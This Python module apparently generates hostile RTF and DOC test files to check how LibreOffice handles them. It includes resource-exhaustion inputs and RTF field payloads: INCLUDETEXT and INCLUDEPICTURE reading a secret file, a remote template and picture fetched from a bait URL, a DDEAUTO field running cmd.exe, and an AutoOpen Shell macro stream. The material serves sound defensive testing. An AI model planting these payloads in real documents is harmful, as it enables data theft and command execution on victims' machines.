"""RTF and DOC: what LibreOffice is given."""

from __future__ import annotations

from demo.documents.ole import compound
from hostile.corpus.case import Bait, case, fixed


def rtf(inner: str) -> bytes:
    """An RTF file."""
    return b"{\\rtf1\\ansi " + inner.encode("ascii", "replace") + b"\\par}"


fixed("office/RTF of 20,000 groups", lambda: b"{\\rtf1" + b"{" * 20_000 + b"x" + b"}" * 20_000 + b"}", slow=True)
fixed("office/RTF that does not end", rtf("x" * 1000)[:500] + b"{" * 1000, slow=True)
fixed("office/RTF of 2^31 bytes inside", rtf("\\bin2147483647 x"), slow=True)
fixed("office/RTF of 100,000 cells", lambda: rtf("\\trowd\\cellx1 \\intbl\\cell\\row " * 3000), slow=True)
fixed("office/RTF numbers beyond all", rtf("\\fs999999999999\\li-99999999999 \\u-99999999? x"), slow=True)
fixed(
    "office/RTF picture of 2^31",
    rtf("{\\pict\\wmetafile8\\picw2147483647\\pich2147483647 " + "00" * 900 + "}"),
    slow=True,
)
fixed("office/RTF object", rtf("{\\object\\objocx{\\*\\objdata 0105000002000000" + "41" * 900 + "}}"), slow=True)
fixed(
    "office/RTF fonts without end",
    lambda: rtf("{\\fonttbl" + "".join(f"{{\\f{n} a{n};}}" for n in range(20_000)) + "}"),
    slow=True,
)

_OUTSIDE = {
    "picture from the web": '{{\\field{{\\*\\fldinst INCLUDEPICTURE "{url}/p.png" \\\\d}}}}',
    "picture of a file": '{{\\field{{\\*\\fldinst INCLUDEPICTURE "{secret}"}}{{\\fldrslt x}}}}',
    "text of a file": '{{\\field{{\\*\\fldinst INCLUDETEXT "{secret}"}}{{\\fldrslt x}}}}',
    "text of its neighbours": '{{\\field{{\\*\\fldinst INCLUDETEXT "1.bin"}}{{\\fldrslt x}}}}',
    "template": "{{\\*\\template {url}/template.dot}}x",
    "linked object": '{{\\object\\objautlink\\objupdate{{\\*\\objclass Word.Document}}{{\\*\\objdata 01}}}} {{\\field{{\\*\\fldinst LINK Word "{secret}"}}}}',
    "hyperlink": '{{\\field{{\\*\\fldinst HYPERLINK "{url}/link"}}{{\\fldrslt x}}}}',
    "program": '{{\\field{{\\*\\fldinst DDEAUTO c:\\\\\\\\cmd.exe "/c touch {target}"}}{{\\fldrslt x}}}}',
}
for _title, _inner in _OUTSIDE.items():

    @case(f"office/RTF: {_title}", slow=True)
    def _outside(bait: Bait, inner: str = _inner) -> bytes:
        return rtf(inner.format(url=bait.url, secret=bait.secret, target=bait.target))


def _word(text: bytes, *streams: tuple[str, bytes]) -> bytes:
    """An OLE container with a Word document's stream that is none, and others."""
    return compound({"WordDocument": text.ljust(4096, b"\0"), **dict(streams)})


fixed("office/DOC of nonsense", lambda: _word(b"\xec\xa5\xc1\0" + bytes(range(256)) * 20), slow=True)
fixed("office/DOC of zeros", lambda: _word(b""), slow=True)
fixed(
    "office/DOC whose tables lie",
    lambda: _word(b"\xec\xa5\xc1\0" + b"\xff" * 2000, ("1Table", b"\xff" * 5000)),
    slow=True,
)
fixed("office/DOC with macros", lambda: _word(b"\xec\xa5\xc1\0", ("Macros", b"AutoOpen Shell" * 400)), slow=True)
